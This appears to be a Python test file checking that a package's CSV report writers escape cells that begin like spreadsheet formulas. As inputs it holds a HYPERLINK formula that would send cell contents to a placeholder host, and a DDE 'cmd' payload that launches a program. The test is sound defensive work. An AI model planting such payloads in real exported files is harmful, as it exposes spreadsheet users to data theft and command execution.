"""The report's CSV files open in a spreadsheet: a text cell that starts like a formula is shown, not run."""

from __future__ import annotations

import csv

from pikeh_duckdb.tables import write_csv, write_matrix_csv


def test_a_cell_that_starts_like_a_formula_is_written_as_text(tmp_path):
    rows = [{"run": '=HYPERLINK("http://x/?"&A1,"ok")', "stop": "@SUM(A1:A9)", "note": "+1 more", "tab": "\tx",
             "number_text": "-1.5", "dash": "-", "plain": "converged", "speedup": 2.5, "none": None,
             "list": ["=1", "b"]}]
    path = write_csv(tmp_path / "rows.csv", rows)
    with path.open(newline="", encoding="utf-8") as handle:
        header, values = list(csv.reader(handle))
    cell = dict(zip(header, values, strict=True))
    assert cell["run"] == "'=HYPERLINK(\"http://x/?\"&A1,\"ok\")" and cell["stop"] == "'@SUM(A1:A9)"
    assert cell["note"] == "'+1 more" and cell["tab"] == "'\tx" and cell["dash"] == "'-" and cell["list"] == "'=1;b"
    assert (cell["number_text"], cell["plain"], cell["speedup"], cell["none"]) == ("-1.5", "converged", "2.5", "")
    matrix = write_matrix_csv(tmp_path / "matrix.csv", ["task", "=run"], [["=cmd|' /C calc'!A0", 1.25]])
    assert matrix.read_text(encoding="utf-8").splitlines() == ["task,'=run", "'=cmd|' /C calc'!A0,1.25"]
